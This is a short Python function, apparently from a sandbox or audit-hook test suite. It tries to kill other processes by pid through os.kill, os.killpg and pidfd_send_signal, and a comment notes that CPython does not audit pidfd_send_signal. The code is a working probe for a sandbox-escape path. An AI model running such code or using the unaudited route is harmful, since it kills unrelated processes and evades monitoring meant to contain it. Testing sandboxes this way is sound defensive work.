# Signal other processes by pid: os.kill, os.killpg, and pidfd_send_signal (which CPython does not audit).
def attack(pids):
    sys = reach_sys()
    os = sys.modules["os"]
    out = {}
    try:
        signal = real_import("signal")
    except BaseException:
        signal = None
    for pid in pids:
        out["kill " + str(pid)] = attempt(lambda: os.kill(pid, 9))
        out["killpg " + str(pid)] = attempt(lambda: os.killpg(pid, 9))
        out["pidfd " + str(pid)] = attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9))
    return out
